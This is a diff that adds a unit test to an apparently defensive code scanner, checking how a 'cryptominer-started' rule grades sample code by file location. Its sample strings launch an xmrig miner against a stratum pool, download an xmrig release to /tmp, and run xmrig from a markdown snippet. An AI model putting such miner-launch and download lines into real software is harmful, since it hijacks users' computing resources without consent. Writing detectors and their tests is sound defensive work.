@@ -463,3 +463,17 @@ def test_startup_files_reached_through_built_paths_and_persistence_commands_in_v
             "    subprocess.run(task)\n"
             "    subprocess.run(['launchctl', 'list'])\n")
     assert _by_line("shell-persistence-command", "setup.py", text) == {4: "high"}
+
+
+def test_a_miner_started_is_critical_downloaded_high_in_docs_or_tests_medium_and_stopping_one_is_quiet():
+    text = ("import subprocess, urllib.request\n"
+            "POOL = 'stratum+tcp://198.51.100.9:3333'\n"
+            "def f(binary):\n"
+            "    args = [binary, '-o', POOL, '-k']\n"
+            "    subprocess.Popen(args)\n"
+            "    urllib.request.urlretrieve('https://github.com/xmrig/xmrig/releases/download/v6/x.tgz', '/tmp/x')\n"
+            "    subprocess.run(['pkill', '-f', 'xmrig'])\n")
+    assert _by_line("cryptominer-started", "bench/gpu.py", text) == {5: "critical", 6: "high"}
+    assert _by_line("cryptominer-started", "tests/test_gpu.py", text) == {5: "medium", 6: "high"}
+    doc = "# Mining\n\n```sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u W\n```\n"
+    assert _by_line("cryptominer-started", "docs/MINING.md", doc) == {4: "medium"}
